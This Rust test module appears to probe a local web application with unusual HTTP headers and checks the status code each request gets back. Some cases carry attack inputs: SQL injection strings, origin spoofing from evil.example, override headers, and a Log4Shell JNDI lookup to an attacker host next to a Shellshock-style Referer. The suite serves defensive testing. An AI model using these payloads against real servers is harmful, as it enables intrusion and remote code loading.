//! Headers with a meaning: cookies, where a request comes from, what is wanted of an answer.

use super::{Attack, RIGHT, SESSION, attack, body, header};

pub fn all() -> Vec<Attack> {
    [cookies(), origins(), wishes(), proxies()]
        .into_iter()
        .flatten()
        .collect()
}

/// The page of a session, asked for with this line.
fn page(name: &str, answers: &'static [u16], line: &str) -> Attack {
    header(name, answers, line.as_bytes())
}

/// Without a session a page leads to the login (303).
fn cookies() -> Vec<Attack> {
    vec![
        page("a session", &[200], &format!("Cookie: {SESSION}")),
        page("a session twice", &[200], &format!("Cookie: {SESSION}; {SESSION}")),
        page(
            "a false session before the true one",
            &[303],
            &format!("Cookie: sitzung=x; {SESSION}"),
        ),
        page(
            "a false session behind the true one",
            &[200],
            &format!("Cookie: {SESSION}; sitzung=x"),
        ),
        page(
            "a session in a second line",
            &[200],
            &format!("Cookie: a=b\r\nCookie: {SESSION}"),
        ),
        page(
            "a session behind a thousand cookies",
            &[200],
            &format!("Cookie: {}{SESSION}", "a=b;".repeat(1_000)),
        ),
        page(
            "a session behind a cookie that is not ASCII",
            &[200],
            &format!("Cookie: stadt=Köln; {SESSION}"),
        ),
        page("a session with a byte more", &[303], &format!("Cookie: {SESSION}0")),
        page("a session behind a comma", &[303], &format!("Cookie: a=b, {SESSION}")),
        page(
            "a session under another name",
            &[303],
            &format!("Cookie: __Host-{SESSION}"),
        ),
        page(
            "a session in another header",
            &[303],
            &format!("Authorization: Bearer {SESSION}\r\nX-Cookie: {SESSION}\r\nSet-Cookie: {SESSION}"),
        ),
        page("a session in quotes", &[303], "Cookie: sitzung=\"0123456789abcdef\""),
        page("a session with a NUL", &[400], "Cookie: sitzung=\0"),
        page("an empty session", &[303], "Cookie: sitzung="),
        page("a name alone", &[303], "Cookie: sitzung"),
        page("a cookie of signs", &[303], "Cookie: ;;;=;=;;==,,\"\";"),
        page("a session for the database", &[303], "Cookie: sitzung=' OR '1'='1"),
        page(
            "a session of 10,000 letters",
            &[303],
            &format!("Cookie: sitzung={}", "a".repeat(10_000)),
        )
        .nginx(&[400]),
        page(
            "a session of 20,000 letters",
            &[431],
            &format!("Cookie: sitzung={}", "a".repeat(20_000)),
        )
        .nginx(&[400]),
    ]
}

/// A login that would succeed, if it did not come from elsewhere.
fn origins() -> Vec<Attack> {
    let from = |name: &str, answers, lines: &str| body(name, answers, "/meldung/anmelden", lines, RIGHT.as_bytes());
    let origin = |name: &str, origin: &str| from(name, &[403], &format!("Origin: {origin}"));
    let site = |name: &str, site: &str| from(name, &[403], &format!("Sec-Fetch-Site: {site}"));
    vec![
        from("from our own page", &[303], "Origin: http://127.0.0.1:8000"),
        origin("from nowhere", "null"),
        origin("from an empty origin", ""),
        origin("from another port", "http://127.0.0.1:8001"),
        origin("from another scheme", "https://127.0.0.1:8000"),
        origin("from an origin with a slash", "http://127.0.0.1:8000/"),
        origin(
            "from a host that begins like ours",
            "http://127.0.0.1:8000.evil.example",
        ),
        origin(
            "from a host with our name as user",
            "http://127.0.0.1:8000@evil.example",
        ),
        origin(
            "from a host with our name behind it",
            "http://evil.example#http://127.0.0.1:8000",
        ),
        origin("from our name in capitals", "HTTP://127.0.0.1:8000"),
        origin(
            "from two origins in a line",
            "http://127.0.0.1:8000 http://evil.example",
        ),
        from(
            "from two origins in two lines",
            &[403],
            "Origin: http://127.0.0.1:8000\r\nOrigin: http://evil.example",
        ),
        site("from another site", "cross-site"),
        site("from the same site", "same-site"),
        site("from a bookmark", "none"),
        site("from our own page in capitals", "Same-Origin"),
        site("from an empty site", ""),
        site("from two sites in a line", "same-origin, cross-site"),
        from(
            "from two sites in two lines",
            &[403],
            "Sec-Fetch-Site: same-origin\r\nSec-Fetch-Site: cross-site",
        ),
        from(
            "from our own page, which another site opened",
            &[403],
            "Origin: http://127.0.0.1:8000\r\nSec-Fetch-Site: cross-site",
        ),
        from(
            "from a page that another one links to",
            &[303],
            "Referer: https://evil.example/",
        ),
    ]
}

/// An answer is always whole, always fresh and never packed.
fn wishes() -> Vec<Attack> {
    let workbook = |name: &str, line: &str| {
        let head = "GET /meldung/formular/cb-2026.xlsx HTTP/1.1\r\nHost: x\r\nConnection: close";
        attack(name, &[200], format!("{head}\r\nCookie: {SESSION}\r\n{line}\r\n\r\n"))
    };
    vec![
        workbook("a piece of a workbook", "Range: bytes=0-9"),
        workbook("a piece behind its end", "Range: bytes=99999999999999999999-"),
        workbook("a thousand pieces", &format!("Range: bytes=0-{}", ",0-".repeat(1_000))),
        workbook("a piece that is none", "Range: zeilen=1-"),
        workbook("a piece, if it is the same", "If-Range: \"x\"\r\nRange: bytes=0-9"),
        workbook("a workbook, if it is another", "If-None-Match: *"),
        workbook("a workbook, if it is this one", "If-Match: \"x\""),
        workbook(
            "a workbook, if it is newer",
            "If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT",
        ),
        workbook(
            "a workbook, if it is older",
            "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
        ),
        workbook("a workbook on a day that is none", "If-Modified-Since: morgen"),
        workbook("a workbook packed anyhow", "Accept-Encoding: gzip, br, zstd, deflate"),
        workbook("a workbook that must be packed", "Accept-Encoding: identity;q=0, *;q=0"),
        workbook("a workbook as something else", "Accept: application/json;q=1, */*;q=0"),
        workbook(
            "a workbook in a language nobody speaks",
            &format!("Accept-Language: {}", "tlh,".repeat(1_000)),
        ),
        header("a coding of the answer", &[303], b"TE: gzip, trailers;q=0.5"),
        header(
            "a connection for a socket of the web",
            &[303],
            b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==",
        ),
        header(
            "a connection for TLS",
            &[303],
            b"Connection: Upgrade\r\nUpgrade: TLS/1.0",
        ),
        header(
            "a question before a body that never comes",
            &[303],
            b"Expect: 100-continue",
        )
        .nginx(&[100, 303]),
        header("two expectations", &[417], b"Expect: 100-continue, 200-ok").nginx(&[303]),
        header("an expectation in capitals", &[303], b"EXPECT: 100-CONTINUE").nginx(&[100, 303]),
    ]
}

/// What only a web server before us may say, and what some programs believe of anybody.
fn proxies() -> Vec<Attack> {
    let line = |name: &str, line: &str| header(name, &[303], line.as_bytes());
    vec![
        line(
            "another path behind the path",
            "X-Original-URL: /meldung/eingang/x\r\nX-Rewrite-URL: /meldung/abmelden",
        ),
        line(
            "another method behind the method",
            "X-HTTP-Method-Override: DELETE\r\nX-Method-Override: POST",
        ),
        line(
            "another host behind the host",
            "X-Forwarded-Host: evil.example\r\nX-Host: evil.example\r\nForwarded: host=evil.example",
        ),
        line(
            "addresses by the thousand",
            &format!("X-Forwarded-For: {}127.0.0.1", "203.0.113.9, ".repeat(1_000)),
        )
        .nginx(&[400]),
        line(
            "an address that is none",
            "X-Forwarded-For: ' OR 1=1, ::::, 999.999.999.999",
        ),
        line(
            "headers that are to be dropped",
            "Connection: close, cookie, host, content-length, x-forwarded-for",
        ),
        line("a proxy for the programs behind us", "Proxy: http://evil.example:8080"),
        line(
            "a request that has come around",
            &format!("Via: {}\r\nMax-Forwards: 0", "1.1 x, ".repeat(500)),
        ),
        line("a name and a password", "Authorization: Basic YWRtaW46YWRtaW4="),
        line(
            "a program that looks for Java",
            "User-Agent: ${jndi:ldap://evil.example/a}\r\nReferer: () { :;}; /bin/true",
        ),
    ]
}
